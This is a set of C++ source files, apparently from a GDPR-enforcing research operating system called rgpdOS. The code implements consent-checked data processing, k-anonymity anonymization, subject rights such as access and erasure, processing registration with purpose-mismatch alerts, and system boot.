      if (version_moved) RGPD_METRIC_COUNT("core.consent.stale_revoked");
      out.logs.push_back({record->membrane.subject_id, id,
                          LogOutcome::kFiltered,
                          revalidated.filter_detail});
      return out;
    }
    decision = std::move(revalidated);
  }
  // From here on the membrane that travelled WITH the row is the
  // authoritative one (same version as the decision just validated).
  *m = std::move(record->membrane);
  db::Row row = std::move(record->row);

  // ---- ded_execute: run the implementation under the syscall filter --------
  watch.Restart();
  // Application-supplied predicates: consented rows that fail never
  // reach the implementation (and the subject's log says so).
  bool predicate_pass = true;
  for (const FieldPredicate& predicate : predicates) {
    const auto index = input_schema.FieldIndex(predicate.field);
    if (!index.ok() || !predicate.Matches(row[*index])) {
      predicate_pass = false;
      break;
    }
  }
  if (!predicate_pass) {
    ++out.filtered;
    out.logs.push_back(
        {m->subject_id, id, LogOutcome::kFiltered, "row predicate"});
    out.timings.execute_ns = watch.ElapsedNanos();
    return out;
  }
  sentinel::SyscallContext syscalls(
      sentinel::SyscallFilter::PdProcessingProfile(), now);
  ProcessingInput input(&input_type, &row, std::move(decision.scope),
                        m->subject_id, id, &syscalls,
                        want_trace ? &out.fields : nullptr);
  auto output = fn(input);
  out.syscalls_denied = syscalls.denied_calls();
  if (syscalls.killed()) {
    out.logs.push_back({m->subject_id, id, LogOutcome::kAborted,
                        "killed by syscall filter"});
    out.error = SyscallDenied("processing '" + processing_name +
                              "' was killed by the syscall filter");
    out.timings.execute_ns = watch.ElapsedNanos();
    return out;
  }
  if (!output.ok()) {
    out.logs.push_back({m->subject_id, id, LogOutcome::kAborted,
                        output.status().ToString()});
    out.error = output.status();
    out.timings.execute_ns = watch.ElapsedNanos();
    return out;
  }
  out.processed = true;
  out.logs.push_back({m->subject_id, id, LogOutcome::kProcessed, {}});
  out.npd = std::move(output->npd);
  if (output->derived_row.has_value()) {
    out.derived_row = std::move(*output->derived_row);
    out.source_membrane = std::move(m).value();
  }
  out.timings.execute_ns = watch.ElapsedNanos();
  return out;
}

Result<InvokeResult> DataExecutionDomain::Execute(
    const dsl::PurposeDecl& purpose, const std::string& processing_name,
    const ProcessingFn& fn, const std::optional<PdRef>& target,
    std::set<std::string>* field_trace,
    const std::vector<FieldPredicate>& predicates) {
  InvokeResult result;
  Stopwatch watch;
  RGPD_METRIC_COUNT("core.ded_execute.count");
  RGPD_METRIC_SCOPED_LATENCY("core.ded_execute.latency_ns");
  RGPD_TRACE_SPAN("core", "ded_execute");
  // One durable audit append per pipeline run (group commit), not per
  // record.
  ProcessingLog::BatchScope log_batch(*log_);

  // ---- ded_type2req: input type -> DBFS record requests --------------------
  watch.Restart();
  RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* input_type,
                        dbfs_->GetType(kDed, purpose.input_type));
  // Predicates may only touch the purpose's declared view: an application
  // must not turn the query layer into a side channel on hidden fields.
  const db::Schema input_schema = input_type->ToSchema();
  if (!predicates.empty()) {
    RGPD_ASSIGN_OR_RETURN(std::set<std::string> declared,
                          input_type->ViewFields(purpose.input_view));
    for (const FieldPredicate& predicate : predicates) {
      if (declared.count(predicate.field) == 0) {
        return PermissionDenied(
            "predicate on field '" + predicate.field +
            "' outside the purpose's declared view");
      }
    }
  }
  std::vector<dbfs::RecordId> candidates;
  if (target.has_value()) {
    if (target->type_name != purpose.input_type) {
      return InvalidArgument("PdRef names type '" + target->type_name +
                             "' but purpose '" + purpose.name +
                             "' consumes '" + purpose.input_type + "'");
    }
    candidates.push_back(target->record_id);
  } else {
    RGPD_ASSIGN_OR_RETURN(candidates,
                          dbfs_->RecordsOfType(kDed, purpose.input_type));
  }
  result.records_considered = candidates.size();
  result.timings.type2req_ns = watch.ElapsedNanos();

  // ---- per-record stages: load_membrane / filter / load_data / execute -----
  // Fanned over contiguous candidate shards when an executor is attached
  // and there is enough work per lane; outcomes merge in candidate order
  // below, so the log and the returned error are shard-count-invariant.
  const TimeMicros now = clock_->Now();
  // One decision memo per invoke (the paper's purpose is fixed for the
  // whole pipeline, so (purpose, record) keys degenerate to record ids).
  DecisionMemo memo;
  DecisionMemo* memo_ptr = memoize_decisions_ ? &memo : nullptr;
  std::vector<RecordOutcome> outcomes(candidates.size());
  const auto run_range = [&](std::size_t begin, std::size_t end) {
    for (std::size_t i = begin; i < end; ++i) {
      outcomes[i] =
          RunRecord(candidates[i], *input_type, input_schema, purpose,
                    processing_name, fn, predicates, now,
                    field_trace != nullptr, memo_ptr);
    }
  };
  std::size_t lanes = 1;
  if (executor_ != nullptr && !candidates.empty()) {
    const std::size_t by_work =
        (candidates.size() + kMinRecordsPerShard - 1) / kMinRecordsPerShard;
    lanes = std::min<std::size_t>(executor_->worker_count() + 1, by_work);
  }
  if (lanes <= 1) {
    run_range(0, candidates.size());
  } else {
    const std::size_t per_shard = (candidates.size() + lanes - 1) / lanes;
    RGPD_METRIC_COUNT("core.ded_execute.parallel");
    executor_->ParallelFor(lanes, [&](std::size_t shard) {
      const std::size_t begin = shard * per_shard;
      const std::size_t end =
          std::min(candidates.size(), begin + per_shard);
      if (begin < end) run_range(begin, end);
    });
  }

  // ---- merge in candidate order --------------------------------------------
  struct Derived {
    db::Row row;
    membrane::Membrane source_membrane;
  };
  std::vector<Derived> derived;
  for (RecordOutcome& out : outcomes) {
    for (RecordOutcome::StagedLog& staged : out.logs) {
      log_->Append(processing_name, purpose.name, staged.subject,
                   staged.record, staged.outcome, std::move(staged.detail));
    }
    result.records_filtered_out += out.filtered;
    result.syscalls_denied += out.syscalls_denied;
    result.timings.load_membrane_ns += out.timings.load_membrane_ns;
    result.timings.filter_ns += out.timings.filter_ns;
    result.timings.load_data_ns += out.timings.load_data_ns;
    result.timings.execute_ns += out.timings.execute_ns;
    if (field_trace != nullptr) {
      field_trace->insert(out.fields.begin(), out.fields.end());
    }
    if (!out.error.ok()) {
      // Same contract as a serial run: the first failing record (in
      // candidate order) aborts the invoke; nothing derived is stored.
      return out.error;
    }
    if (out.processed) {
      ++result.records_processed;
      RGPD_METRIC_COUNT("core.records.processed");
    }
    if (!out.npd.empty()) {
      result.npd_outputs.push_back(std::move(out.npd));
    }
    if (out.derived_row.has_value()) {
      if (purpose.output_type.empty()) {
        return PurposeMismatch("processing '" + processing_name +
                               "' produced PD but purpose '" + purpose.name +
                               "' declares no output type");
      }
      derived.push_back(Derived{std::move(*out.derived_row),
                                std::move(out.source_membrane)});
    }
  }

  // ---- ded_build_membrane ---------------------------------------------------
  watch.Restart();
  std::vector<membrane::Membrane> derived_membranes;
  derived_membranes.reserve(derived.size());
  for (const Derived& d : derived) {
    RGPD_ASSIGN_OR_RETURN(
        membrane::Membrane m,
        BuildDerivedMembrane(purpose, d.source_membrane));
    derived_membranes.push_back(std::move(m));
  }
  result.timings.build_membrane_ns = watch.ElapsedNanos();

  // ---- ded_store -------------------------------------------------------------
  watch.Restart();
  for (std::size_t i = 0; i < derived.size(); ++i) {
    RGPD_ASSIGN_OR_RETURN(
        dbfs::RecordId id,
        dbfs_->Put(kDed, derived_membranes[i].subject_id,
                   purpose.output_type, derived[i].row,
                   derived_membranes[i]));
    result.derived.push_back(PdRef{id, purpose.output_type});
  }
  result.timings.store_ns = watch.ElapsedNanos();

  // ---- ded_return -------------------------------------------------------------
  watch.Restart();
  // Nothing to marshal: InvokeResult already holds only refs and NPD.
  result.timings.return_ns = watch.ElapsedNanos();
  return result;
}

}  // namespace rgpdos::core
