// Anonymization built-in — the one processing that may move data OUT of
// DBFS: GDPR Recital 26 places truly anonymised data outside the
// regulation, so its output is non-personal data and lands on the NPD
// filesystem.
//
// "Truly" is carried by two mechanisms:
//   * generalisation rules per field (ints are bucketed, strings reduced
//     to a prefix or dropped); fields without a rule are dropped;
//   * k-anonymity suppression: a generalised row is only released if at
//     least k source records share it — small groups, which could
//     re-identify a subject, are suppressed entirely.
//
// Expired records are skipped (they are already beyond their lawful
// retention) and every contributing record is entered in the processing
// log, so the right of access shows subjects that their PD fed an
// anonymised release.
#pragma once

#include <map>
#include <string>

#include "core/processing_log.hpp"
#include "dbfs/dbfs.hpp"
#include "inodefs/filesystem.hpp"

namespace rgpdos::core {

/// Per-field generalisation rule.
struct FieldRule {
  enum class Kind : std::uint8_t {
    kBucket,  ///< int: round down to a multiple of `bucket`
    kPrefix,  ///< string: keep the first `prefix_len` characters
    kKeep,    ///< copy verbatim (categorical fields with few values)
  };
  Kind kind = Kind::kKeep;
  std::int64_t bucket = 10;
  std::size_t prefix_len = 1;

  static FieldRule Bucket(std::int64_t size) {
    return {Kind::kBucket, size, 0};
  }
  static FieldRule Prefix(std::size_t len) {
    return {Kind::kPrefix, 0, len};
  }
  static FieldRule Keep() { return {Kind::kKeep, 0, 0}; }
};

struct AnonymizationSpec {
  /// Fields to release, with their generalisation. Unlisted fields are
  /// dropped (data minimisation by default).
  std::map<std::string, FieldRule> rules;
  /// Minimum group size for release (k-anonymity).
  std::size_t k = 2;
};

struct AnonymizationResult {
  std::size_t source_records = 0;
  std::size_t released_groups = 0;
  std::size_t suppressed_groups = 0;
  std::size_t suppressed_records = 0;
};

class Anonymizer {
 public:
  Anonymizer(dbfs::DbfsApi* dbfs, ProcessingLog* log, const Clock* clock)
      : dbfs_(dbfs), log_(log), clock_(clock) {}

  /// Generalise every live, unexpired record of `type_name` per `spec`
  /// and write the k-anonymous groups as a CSV file at `npd_path` on the
  /// NPD filesystem ("value1,value2,...,count" rows).
  Result<AnonymizationResult> Release(std::string_view type_name,
                                      const AnonymizationSpec& spec,
                                      inodefs::FileSystem* npd_fs,
                                      std::string_view npd_path);

 private:
  dbfs::DbfsApi* dbfs_;    // borrowed
  ProcessingLog* log_;  // borrowed
  const Clock* clock_;  // borrowed
};

}  // namespace rgpdos::core
