// GDPR subject rights (paper §4): right of access, right to be
// forgotten, plus rectification (Art. 16) and portability (Art. 20),
// which fall out of the same machinery.
//
// Exports are produced exactly "as stored in DBFS": typed rows with
// meaningful field names — the paper's point about structured AND
// exploitable data ("Chiraz"/"Benamor" keyed by first_name/last_name,
// not by each other).
#pragma once

#include <functional>
#include <set>
#include <string>

#include "core/builtins.hpp"
#include "core/processing_log.hpp"
#include "crypto/rsa.hpp"
#include "dbfs/dbfs.hpp"

namespace rgpdos::core {

class Rights {
 public:
  Rights(dbfs::DbfsApi* dbfs, ProcessingLog* log, Builtins* builtins)
      : dbfs_(dbfs), log_(log), builtins_(builtins) {}

  /// Right of access: a structured, machine-readable JSON document with
  /// every record of the subject (field names included, membranes
  /// summarised) and the full processing history of their PD.
  Result<std::string> Access(dbfs::SubjectId subject) const;

  /// Right to data portability: the records alone, machine-readable,
  /// without the audit history (what another operator would import).
  Result<std::string> Portability(dbfs::SubjectId subject) const;

  /// Right to be forgotten: crypto-erase every record of the subject
  /// under the authority's key. Returns how many records were erased.
  Result<std::size_t> Forget(dbfs::SubjectId subject,
                             const crypto::RsaPublicKey& authority_key);

  /// Right to rectification: replace one record's row.
  Status Rectify(const PdRef& ref, const db::Row& row);

  /// Right to object (Art. 21): block `purpose` on every record of the
  /// subject. The objection sticks until withdrawn — a later consent
  /// grant does not override it. Returns how many copy groups changed.
  Result<std::size_t> Object(dbfs::SubjectId subject,
                             const std::string& purpose);
  Result<std::size_t> WithdrawObjection(dbfs::SubjectId subject,
                                        const std::string& purpose);

  /// Art. 22: opt the subject out of (or back into) solely-automated
  /// decisions across all their PD. Returns how many copy groups changed.
  Result<std::size_t> OptOutAutomatedDecisions(dbfs::SubjectId subject,
                                               bool opt_out);

  /// Receiving side of data portability (Art. 20: "transmit those data
  /// to another controller"): import a subject export produced by
  /// another rgpdOS instance. Types must already be declared here;
  /// erased records are skipped; membranes travel with the data (consents
  /// and TTLs survive the move), but copy groups are reassigned — copies
  /// do not span operators. Returns the number of records imported.
  Result<std::size_t> ImportSubject(const dbfs::SubjectExport& data);

 private:
  /// Apply `apply` once per copy group of the subject's records (the
  /// builtins propagate group-wide, so one member each suffices).
  /// Returns the number of groups visited.
  Result<std::size_t> ForEachCopyGroup(
      dbfs::SubjectId subject,
      const std::function<Status(const PdRef&)>& apply);

  dbfs::DbfsApi* dbfs_;      // borrowed
  ProcessingLog* log_;    // borrowed
  Builtins* builtins_;    // borrowed
};

/// JSON string escaping (exposed for tests).
std::string JsonEscape(std::string_view text);

}  // namespace rgpdos::core
