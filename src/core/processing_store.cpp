#include "core/processing_store.hpp"

#include <algorithm>

#include "metrics/metrics.hpp"
#include "metrics/trace.hpp"

namespace rgpdos::core {

namespace {
constexpr sentinel::Domain kPs = sentinel::Domain::kProcessingStore;
constexpr sentinel::Domain kDedDomain = sentinel::Domain::kDed;
}  // namespace

Result<std::string> ProcessingStore::CheckPurposeMatch(
    const dsl::PurposeDecl& purpose, const ImplManifest& manifest) const {
  // Hard rejections first: no purpose at all.
  if (manifest.claimed_purpose.empty()) {
    return Status(PurposeMismatch(
        "implementation declares no purpose; registration rejected"));
  }
  if (manifest.claimed_purpose != purpose.name) {
    return Status(PurposeMismatch("implementation claims purpose '" +
                                  manifest.claimed_purpose +
                                  "' but is registered under '" +
                                  purpose.name + "'"));
  }
  // The declared input type/view must exist in the schema tree.
  RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* input_type,
                        dbfs_->GetType(kPs, purpose.input_type));
  if (!purpose.input_view.empty() &&
      !input_type->HasView(purpose.input_view)) {
    return Status(PurposeMismatch("purpose '" + purpose.name +
                                  "' names unknown view '" +
                                  purpose.input_view + "'"));
  }
  if (!purpose.output_type.empty()) {
    RGPD_RETURN_IF_ERROR(dbfs_->GetType(kPs, purpose.output_type).status());
  }

  // Soft mismatches produce an alert string (empty string = clean match).
  RGPD_ASSIGN_OR_RETURN(std::set<std::string> allowed,
                        input_type->ViewFields(purpose.input_view));
  for (const std::string& field : manifest.fields_read) {
    if (allowed.count(field) == 0) {
      return std::string("implementation reads field '" + field +
                         "' outside the purpose's declared view '" +
                         (purpose.input_view.empty() ? "all"
                                                     : purpose.input_view) +
                         "'");
    }
  }
  if (manifest.output_type != purpose.output_type) {
    return std::string("implementation derives type '" +
                       manifest.output_type + "' but purpose declares '" +
                       purpose.output_type + "'");
  }
  return std::string{};
}

Result<ProcessingId> ProcessingStore::Register(sentinel::Domain caller,
                                               dsl::PurposeDecl purpose,
                                               ProcessingFn fn,
                                               ImplManifest manifest) {
  RGPD_METRIC_COUNT("core.ps_register.count");
  RGPD_METRIC_SCOPED_LATENCY("core.ps_register.latency_ns");
  sentinel::AccessRequest request;
  request.subject = caller;
  request.object = kPs;
  request.op = sentinel::Operation::kRegister;
  request.detail = "purpose=" + purpose.name;
  RGPD_RETURN_IF_ERROR(sentinel_->Enforce(request));

  if (!fn) {
    return InvalidArgument("processing has no implementation");
  }
  RGPD_ASSIGN_OR_RETURN(std::string mismatch,
                        CheckPurposeMatch(purpose, manifest));

  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  const ProcessingId id = next_id_++;
  StoredProcessing stored;
  stored.purpose = std::move(purpose);
  stored.fn = std::move(fn);
  stored.manifest = std::move(manifest);
  stored.active = mismatch.empty();
  processings_.emplace(id, std::move(stored));

  if (!mismatch.empty()) {
    // "PS raises an alert that requires an explicit sysadmin approval."
    RGPD_METRIC_COUNT("core.ps_alerts.count");
    Alert alert;
    alert.id = next_alert_id_++;
    alert.processing = id;
    alert.reason = std::move(mismatch);
    alerts_.push_back(std::move(alert));
  }
  return id;
}

std::vector<Alert> ProcessingStore::PendingAlerts() const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  std::vector<Alert> out;
  for (const Alert& a : alerts_) {
    if (!a.resolved) out.push_back(a);
  }
  return out;
}

Status ProcessingStore::ApproveAlert(sentinel::Domain caller,
                                     std::uint64_t alert_id) {
  sentinel::AccessRequest request;
  request.subject = caller;
  request.object = kPs;
  request.op = sentinel::Operation::kApprove;
  request.detail = "alert=" + std::to_string(alert_id);
  RGPD_RETURN_IF_ERROR(sentinel_->Enforce(request));
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  for (Alert& a : alerts_) {
    if (a.id == alert_id && !a.resolved) {
      a.resolved = true;
      a.approved = true;
      processings_.at(a.processing).active = true;
      return Status::Ok();
    }
  }
  return NotFound("no pending alert " + std::to_string(alert_id));
}

Status ProcessingStore::RejectAlert(sentinel::Domain caller,
                                    std::uint64_t alert_id) {
  sentinel::AccessRequest request;
  request.subject = caller;
  request.object = kPs;
  request.op = sentinel::Operation::kApprove;
  request.detail = "alert=" + std::to_string(alert_id);
  RGPD_RETURN_IF_ERROR(sentinel_->Enforce(request));
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  for (Alert& a : alerts_) {
    if (a.id == alert_id && !a.resolved) {
      a.resolved = true;
      a.approved = false;
      processings_.erase(a.processing);
      return Status::Ok();
    }
  }
  return NotFound("no pending alert " + std::to_string(alert_id));
}

void ProcessingStore::RegisterCollectionSource(std::string method,
                                               CollectionSource source) {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  collection_sources_[std::move(method)] = std::move(source);
}

Status ProcessingStore::RunCollection(const dsl::PurposeDecl& purpose,
                                      const std::string& method) {
  // Acquisition built-in: every collected row is wrapped in the type's
  // default membrane before it reaches DBFS — "each entry in DBFS is
  // always correctly wrapped with its membrane".
  RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* type,
                        dbfs_->GetType(kDedDomain, purpose.input_type));
  const membrane::CollectionInterface* interface = nullptr;
  for (const membrane::CollectionInterface& c : type->collection) {
    if (c.method == method) {
      interface = &c;
      break;
    }
  }
  if (interface == nullptr) {
    return NotFound("type '" + type->name +
                    "' declares no collection method '" + method + "'");
  }
  CollectionSource source;
  {
    std::lock_guard<metrics::OrderedMutex> lock(mu_);
    const auto source_it = collection_sources_.find(method);
    if (source_it == collection_sources_.end()) {
      return NotFound("no collection source registered for '" + method +
                      "'");
    }
    source = source_it->second;  // copy: the source runs unlocked
  }
  RGPD_ASSIGN_OR_RETURN(auto collected, source(*interface));
  for (auto& [subject, row] : collected) {
    membrane::Membrane m = type->DefaultMembrane(subject, clock_->Now());
    RGPD_ASSIGN_OR_RETURN(
        dbfs::RecordId id,
        dbfs_->Put(kDedDomain, subject, type->name, row, std::move(m)));
    log_->Append("acquisition", purpose.name, subject, id,
                 LogOutcome::kCollected, "method=" + method);
  }
  return Status::Ok();
}

Result<InvokeResult> ProcessingStore::Invoke(sentinel::Domain caller,
                                             ProcessingId id,
                                             const InvokeOptions& options) {
  RGPD_METRIC_COUNT("core.ps_invoke.count");
  RGPD_METRIC_SCOPED_LATENCY("core.ps_invoke.latency_ns");
  RGPD_TRACE_SPAN("core", "ps_invoke");
  // Foreground-activity marker for the retention sweeper's backpressure.
  struct InFlight {
    std::atomic<std::uint64_t>& n;
    explicit InFlight(std::atomic<std::uint64_t>& counter) : n(counter) {
      n.fetch_add(1, std::memory_order_relaxed);
    }
    ~InFlight() { n.fetch_sub(1, std::memory_order_relaxed); }
  } in_flight(invokes_in_flight_);
  sentinel::AccessRequest request;
  request.subject = caller;
  request.object = kPs;
  request.op = sentinel::Operation::kInvoke;
  request.detail = "processing=" + std::to_string(id);
  if (Status enforce = sentinel_->Enforce(request); !enforce.ok()) {
    RGPD_METRIC_COUNT("core.ps_invoke.denied");
    return enforce;
  }

  // Copy the stored processing out under the lock; the pipeline itself
  // runs unlocked so concurrent invokes only contend inside the lower
  // layers (shard locks, store mutex), not here.
  dsl::PurposeDecl purpose;
  ProcessingFn fn;
  std::set<std::string> manifest_fields;
  bool tracing = false;
  {
    std::lock_guard<metrics::OrderedMutex> lock(mu_);
    const auto it = processings_.find(id);
    if (it == processings_.end()) {
      return NotFound("no processing " + std::to_string(id));
    }
    const StoredProcessing& stored = it->second;
    if (!stored.active) {
      return FailedPrecondition(
          "processing " + std::to_string(id) +
          " is held by a pending purpose-mismatch alert");
    }
    purpose = stored.purpose;
    fn = stored.fn;  // std::function copy shares the callable
    manifest_fields = stored.manifest.fields_read;
    tracing = stored.verified_runs < kVerificationRuns;
  }

  if (options.collect_first) {
    if (options.collection_method.empty()) {
      return InvalidArgument("collect_first set but no collection method");
    }
    RGPD_RETURN_IF_ERROR(RunCollection(purpose, options.collection_method));
  }

  // PS instantiates the DED (rule 2); the sentinel records the crossing.
  sentinel::AccessRequest ded_request;
  ded_request.subject = kPs;
  ded_request.object = sentinel::Domain::kDed;
  ded_request.op = sentinel::Operation::kInvoke;
  ded_request.detail = "purpose=" + purpose.name;
  RGPD_RETURN_IF_ERROR(sentinel_->Enforce(ded_request));

  DataExecutionDomain ded(DataExecutionDomain::PassKey{}, dbfs_, sentinel_,
                          log_, clock_, executor_, memoize_decisions_);
  std::set<std::string> field_trace;
  auto result = ded.Execute(purpose, "processing#" + std::to_string(id),
                            fn, options.target,
                            tracing ? &field_trace : nullptr,
                            options.predicates);
  if (tracing && result.ok()) {
    // Runtime purpose verification: the implementation must not read
    // fields beyond what its manifest declared, even inside the
    // consented scope. A manifest that under-declares is exactly the
    // purpose/implementation mismatch the paper's §3(4) worries about.
    std::string overreach;
    for (const std::string& field : field_trace) {
      if (manifest_fields.count(field) == 0) {
        overreach = field;
        break;
      }
    }
    std::lock_guard<metrics::OrderedMutex> lock(mu_);
    // Re-find: the processing may have been rejected (erased) while the
    // pipeline ran. Its PD-path effects already happened and are logged;
    // there is just no table entry left to verify.
    const auto it = processings_.find(id);
    if (!overreach.empty()) {
      if (it != processings_.end()) it->second.active = false;
      RGPD_METRIC_COUNT("core.ps_alerts.count");
      Alert alert;
      alert.id = next_alert_id_++;
      alert.processing = id;
      alert.runtime = true;
      alert.reason = "runtime verifier: implementation read field '" +
                     overreach + "' not declared in its manifest";
      alerts_.push_back(std::move(alert));
      return PurposeMismatch(
          "processing " + std::to_string(id) +
          " deactivated: it read field '" + overreach +
          "' beyond its declared manifest (runtime alert raised)");
    }
    if (it != processings_.end() && result->records_processed > 0) {
      ++it->second.verified_runs;
    }
  }
  return result;
}

Result<const dsl::PurposeDecl*> ProcessingStore::GetPurpose(
    ProcessingId id) const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  const auto it = processings_.find(id);
  if (it == processings_.end()) {
    return NotFound("no processing " + std::to_string(id));
  }
  return &it->second.purpose;
}

bool ProcessingStore::IsActive(ProcessingId id) const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  const auto it = processings_.find(id);
  return it != processings_.end() && it->second.active;
}

}  // namespace rgpdos::core
