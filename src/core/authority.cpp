#include "core/authority.hpp"

namespace rgpdos::core {

Result<Authority> Authority::Create(crypto::SecureRandom& rng,
                                    std::size_t modulus_bits) {
  RGPD_ASSIGN_OR_RETURN(crypto::RsaKeyPair keypair,
                        crypto::RsaGenerate(modulus_bits, rng));
  return Authority(std::move(keypair));
}

Result<Bytes> Authority::Recover(ByteSpan serialized_envelope) const {
  RGPD_ASSIGN_OR_RETURN(crypto::Envelope envelope,
                        crypto::Envelope::Deserialize(serialized_envelope));
  return crypto::Open(keypair_.private_key, envelope);
}

}  // namespace rgpdos::core
