#include "core/rgpdos.hpp"

#include <cstdlib>
#include <string_view>

#include "common/rng.hpp"
#include "dsl/parser.hpp"
#include "kernel/placement.hpp"

namespace rgpdos::core {

Result<std::unique_ptr<RgpdOs>> RgpdOs::Boot(const BootConfig& boot_config) {
  BootConfig config = boot_config;
  // RGPDOS_CACHE=0 forces every cache level off without touching code —
  // the CI matrix runs the whole test suite in both configurations.
  if (const char* env = std::getenv("RGPDOS_CACHE");
      env != nullptr && std::string_view(env) == "0") {
    config.cache_blocks = 0;
    config.cache_record_entries = 0;
    config.cache_decisions = false;
  }
  std::unique_ptr<RgpdOs> os(new RgpdOs());

  if (config.use_sim_clock) {
    auto sim = std::make_unique<SimClock>();
    os->sim_clock_ = sim.get();
    os->clock_ = std::move(sim);
  } else {
    os->clock_ = std::make_unique<SystemClock>();
  }
  if (config.seed != 0) {
    os->rng_.Reseed(config.seed);
  } else {
    os->rng_.ReseedFromEntropy();
  }

  os->sentinel_ = std::make_unique<sentinel::Sentinel>(
      sentinel::SecurityPolicy::RgpdDefault(), os->clock_.get(),
      &os->audit_);

  // DBFS on its own device (paper: DBFS is reachable only through rgpdOS
  // components; the NPD filesystem is a separate, generally accessible
  // store).
  // PD device stack, inner to outer: raw memory device -> optional
  // latency model (simulated IO cost) -> optional block cache (level 1
  // of the caching stack; on the OUTSIDE so a cache hit pays neither
  // device nor simulated-latency cost, exactly like a page-cache hit
  // skips a real disk).
  os->dbfs_device_ = std::make_unique<blockdev::MemBlockDevice>(
      config.block_size, config.dbfs_blocks);
  blockdev::BlockDevice* dbfs_dev = os->dbfs_device_.get();
  if (!config.latency.IsZero()) {
    os->dbfs_latency_ = std::make_unique<blockdev::LatencyModelDevice>(
        dbfs_dev, config.latency);
    dbfs_dev = os->dbfs_latency_.get();
  }
  if (config.cache_blocks != 0) {
    os->dbfs_cache_ = std::make_unique<blockdev::BlockCacheDevice>(
        dbfs_dev, config.cache_blocks, config.cache_shards);
    dbfs_dev = os->dbfs_cache_.get();
  }
  inodefs::InodeStore::Options dbfs_options;
  dbfs_options.inode_count = config.inode_count;
  dbfs_options.journal_blocks = config.journal_blocks;
  RGPD_ASSIGN_OR_RETURN(
      os->dbfs_store_,
      inodefs::InodeStore::Format(dbfs_dev, dbfs_options, os->clock_.get()));
  if (config.split_sensitive) {
    // Dedicated device for high-sensitivity PD (paper §2's storage
    // separation): its own blocks, inodes and journal — and its own
    // cache/latency stack, so sensitive PD never shares cache lines
    // with ordinary PD. Its mutex ranks just below the primary store's
    // so DBFS can nest sensitive-store writes inside a primary-store
    // group-commit scope.
    os->sensitive_device_ = std::make_unique<blockdev::MemBlockDevice>(
        config.block_size, config.sensitive_blocks);
    blockdev::BlockDevice* sensitive_dev = os->sensitive_device_.get();
    if (!config.latency.IsZero()) {
      os->sensitive_latency_ = std::make_unique<blockdev::LatencyModelDevice>(
          sensitive_dev, config.latency);
      sensitive_dev = os->sensitive_latency_.get();
    }
    if (config.cache_blocks != 0) {
      os->sensitive_cache_ = std::make_unique<blockdev::BlockCacheDevice>(
          sensitive_dev, config.cache_blocks, config.cache_shards);
      sensitive_dev = os->sensitive_cache_.get();
    }
    inodefs::InodeStore::Options sensitive_options = dbfs_options;
    sensitive_options.lock_rank = metrics::LockRank::kInodefsSensitive;
    RGPD_ASSIGN_OR_RETURN(
        os->sensitive_store_,
        inodefs::InodeStore::Format(sensitive_dev, sensitive_options,
                                    os->clock_.get()));
  }
  RGPD_ASSIGN_OR_RETURN(
      os->dbfs_,
      dbfs::Dbfs::Format(os->dbfs_store_.get(), os->sentinel_.get(),
                         os->clock_.get(), os->sensitive_store_.get()));
  // Level 2: decoded-record cache with generation invalidation.
  if (config.cache_record_entries != 0) {
    os->dbfs_->EnableRecordCache(config.cache_record_entries);
  }

  os->npd_device_ = std::make_unique<blockdev::MemBlockDevice>(
      config.block_size, config.npd_blocks);
  inodefs::InodeStore::Options npd_options;
  npd_options.inode_count = config.inode_count;
  npd_options.journal_blocks = config.journal_blocks;
  RGPD_ASSIGN_OR_RETURN(
      os->npd_store_,
      inodefs::InodeStore::Format(os->npd_device_.get(), npd_options,
                                  os->clock_.get()));
  RGPD_ASSIGN_OR_RETURN(inodefs::FileSystem npd_fs,
                        inodefs::FileSystem::Create(os->npd_store_.get()));
  os->npd_fs_ = std::make_unique<inodefs::FileSystem>(std::move(npd_fs));

  os->log_ = std::make_unique<ProcessingLog>(os->clock_.get());
  os->log_->AttachStore(os->dbfs_store_.get(),
                        os->dbfs_->processing_log_inode());

  // DED worker pool. worker_threads == 1 keeps the historical inline
  // execution (no pool, no executor); 0 lets the kernel's CPU partition
  // decide how many cores the PD path gets.
  unsigned lanes = config.worker_threads;
  if (lanes == 0) {
    lanes = kernel::CpuPartition::Plan().ded_workers;
  }
  if (lanes > 1) {
    os->executor_ = std::make_unique<DedExecutor>(lanes - 1, config.seed);
  }
  // The boot thread is stream 0 of the boot seed; executor workers took
  // streams 1..N-1.
  SeedThreadRng(config.seed, 0);

  os->ps_ = std::make_unique<ProcessingStore>(
      os->dbfs_.get(), os->sentinel_.get(), os->log_.get(),
      os->clock_.get(), os->executor_.get(), config.cache_decisions);
  os->builtins_ = std::make_unique<Builtins>(os->dbfs_.get(), os->log_.get(),
                                             os->clock_.get(), &os->rng_);
  os->rights_ = std::make_unique<Rights>(os->dbfs_.get(), os->log_.get(),
                                         os->builtins_.get());
  os->anonymizer_ = std::make_unique<Anonymizer>(
      os->dbfs_.get(), os->log_.get(), os->clock_.get());
  os->receipts_ = std::make_unique<ReceiptIssuer>(
      os->rng_.NextBytes(32), os->clock_.get());
  RGPD_ASSIGN_OR_RETURN(Authority authority,
                        Authority::Create(os->rng_,
                                          config.authority_key_bits));
  os->authority_ = std::make_unique<Authority>(std::move(authority));
  return os;
}

Result<ConsentReceipt> RgpdOs::RevokeConsentWithReceipt(
    const PdRef& ref, const std::string& purpose) {
  RGPD_RETURN_IF_ERROR(builtins_->RevokeConsent(ref, purpose));
  RGPD_ASSIGN_OR_RETURN(membrane::Membrane m,
                        dbfs_->GetMembrane(sentinel::Domain::kDed,
                                           ref.record_id));
  return receipts_->Issue(m.subject_id, ref.record_id, purpose, "revoke",
                          "none", m.version);
}

Result<std::size_t> RgpdOs::DeclareTypes(std::string_view dsl_source) {
  RGPD_ASSIGN_OR_RETURN(dsl::Program program, dsl::Parse(dsl_source));
  for (const dsl::TypeDecl& decl : program.types) {
    RGPD_RETURN_IF_ERROR(
        dbfs_->CreateType(sentinel::Domain::kSysadmin, decl));
  }
  return program.types.size();
}

Result<ProcessingId> RgpdOs::RegisterProcessingSource(
    std::string_view dsl_source, ProcessingFn fn, ImplManifest manifest) {
  RGPD_ASSIGN_OR_RETURN(dsl::PurposeDecl purpose,
